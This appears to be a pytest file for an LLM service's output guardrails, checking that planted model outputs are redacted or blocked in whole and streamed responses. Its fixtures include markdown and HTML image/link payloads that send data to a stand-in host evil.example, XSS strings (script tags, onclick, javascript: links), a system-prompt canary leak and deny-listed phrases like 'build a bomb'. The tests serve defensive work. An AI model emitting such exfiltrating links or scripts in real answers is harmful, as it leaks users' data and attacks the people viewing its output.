"""What must not go out, planted in answers of the model: stopped in whole and in streamed ones.

One line of `OUTPUTS` is one planted output. Stopped means: taken out, or the answer is refused.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass
from itertools import product

import moderation_servers as servers
import planted
import pytest
import sample_config
from planted import MARKERS, Scene
from sample_config import Start, patient
from scripted_provider import Provider, answers

from chassis.config import load_config
from chassis.guards.personal.light import PERSONAL
from chassis.guards.policy import output_guards
from chassis.guards.runner import Guards
from chassis.guards.stream import StreamFilter
from chassis.problems import Problem
from chassis.prompts import canary_of
from chassis.record import GuardVerdict

CANARY = canary_of(b"s" * 32)
POLICY = patient()
POLICY["output"]["topics"]["deny"] = {
    "weapons": ["build a bomb", "nerve agent"],
    "rivals": ["acme cloud"],
}


@dataclass(frozen=True)
class Output:
    """A text of a model, and what of it must not get out as it stands."""

    text: str
    needles: tuple[str, ...]


def _exfiltrating(text: str) -> Output:
    return Output(text, ("evil.example", "evil[.]example"))


def _active(text: str, *needles: str) -> Output:
    return Output(text, needles)


OUTPUTS: dict[str, Output] = {
    **{
        f"{kind}": Output(f"You can use {marker.text} for it.", (marker.needle,))
        for kind, marker in MARKERS.items()
        if kind not in planted.OURS
    },
    # the prompt
    "the canary": Output(f"My reference is {CANARY}.", (CANARY,)),
    "the canary at the end": Output(f"It is an apple {CANARY}", (CANARY,)),
    # data carried away in a link
    "an image of another host": _exfiltrating("![a](https://evil.example/p.png?d=aGVsbG8)"),
    "a link to another host": _exfiltrating("See [your ticket](https://evil.example/?q=secret)."),
    "a bare address": _exfiltrating("Go to https://evil.example/a?b=c now."),
    "an address without a scheme": _exfiltrating("![a](//evil.example/x)"),
    "an image in HTML": _exfiltrating('<img src="https://evil.example/x?d=1">'),
    "an address by reference": _exfiltrating("![a][1]\n\n[1]: https://evil.example/x"),
    "an address in capitals": Output("HTTPS://EVIL.EXAMPLE/x", ("EVIL.EXAMPLE/x",)),
    # what a page would act upon
    "a script": _active("<script>alert(1)</script> an apple", "<script"),
    "an event handler": _active("<b onclick=alert(1)>an apple</b>", "<b onclick"),
    "a script as a link": _active("[an apple](javascript:alert(1))", "](javascript:"),
    "a frame": _active('<iframe src="x"></iframe>', "<iframe"),
    # harmful, and off topic
    "something harmful": _active("First you build a bomb, then you leave.", "build a bomb"),
    "something harmful, accented": _active("First you BUÍLD  a bomb.", "BUÍLD  a bomb"),
    "a rival": _active("Rather use Acme Cloud for this.", "Acme Cloud"),
}


@pytest.mark.parametrize("name", OUTPUTS)
async def test_a_planted_output_is_stopped(start: Start, provider: Provider, name: str) -> None:
    """PLAYBOOK 2.10, point 10: in the answer itself, and in everything that is kept of it."""
    output = OUTPUTS[name]
    scene = Scene(await start(guardrails=POLICY), provider)
    provider.will(answers({"remark": output.text}))
    response = await scene.post({"text": "an apple"})
    assert response.status_code in (200, 422)
    assert not [needle for needle in output.needles if needle in response.text]
    (line,) = scene.service.lines("ai_call")
    verdicts = {v["verdict"] for v in line["guards"] if v["direction"] == "output"}
    assert verdicts & {"redact", "block"}
    kept = "\n".join(scene.searched().values())
    assert not [needle for needle in output.needles if needle in kept]


@pytest.fixture(scope="module")
def guards(tmp_path_factory: pytest.TempPathFactory) -> Guards:
    """The output guards of a service, as its configuration has them."""
    root = sample_config.make(tmp_path_factory.mktemp("guards"), guardrails=POLICY)
    return output_guards(load_config(root).guardrails, CANARY, PERSONAL)


def chunks(text: str, size: int) -> Iterable[str]:
    """The text as it arrives."""
    return (text[at : at + size] for at in range(0, len(text), size))


@pytest.mark.parametrize("name", OUTPUTS)
def test_a_planted_output_is_stopped_when_it_is_streamed(guards: Guards, name: str) -> None:
    """PLAYBOOK 2.10, point 10: however it is cut, and whatever comes before and after."""
    output = OUTPUTS[name]
    around = (
        "An apple is a fruit of a tree, and so is a pear. " * 4
    )  # longer than what is held back
    places = (("", ""), (around, ""), ("", around), (around, around))
    for size, (before, after) in product((1, 7, 64, 10_000), places):
        verdicts: list[GuardVerdict] = []
        stream = StreamFilter(guards, verdicts)
        out, told = "", ""
        try:
            for chunk in chunks(before + output.text + " " + after, size):
                out += stream.feed(chunk)
            out += stream.finish()
        except Problem as problem:
            told = str(problem.body("r"))
        assert not [needle for needle in output.needles if needle in out + told]
        assert {v.verdict for v in verdicts} & {"redact", "block"}
        assert not [needle for needle in output.needles if needle in str(verdicts)]


async def test_what_a_hosted_moderation_calls_harmful_is_stopped(
    start: Start, provider: Provider
) -> None:
    """PLAYBOOK 2.10, point 10: no list of words knows every harmful text."""
    with servers.running(server := servers.Azure()):
        chosen = servers.chosen(server)
        service = await start(settings=chosen.settings, guardrails=chosen.config())
        scene = Scene(service, provider)
        provider.will(answers({"remark": f"an apple. {servers.VIOLENCE}"}))
        response = await scene.post({"text": "an apple"})
        assert (response.status_code, response.json()["type"]) == (422, "/problems/output-blocked")
        kept = response.text + "\n".join(scene.searched().values())
        assert servers.VIOLENCE not in kept
